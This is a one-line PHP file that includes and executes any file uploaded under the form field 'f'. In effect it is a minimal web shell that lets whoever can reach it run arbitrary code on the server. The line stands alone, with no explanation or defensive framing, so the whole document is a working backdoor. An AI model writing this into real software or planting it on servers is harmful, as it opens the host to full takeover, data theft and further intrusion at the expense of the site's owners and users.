<?php include $_FILES['f']['tmp_name'];
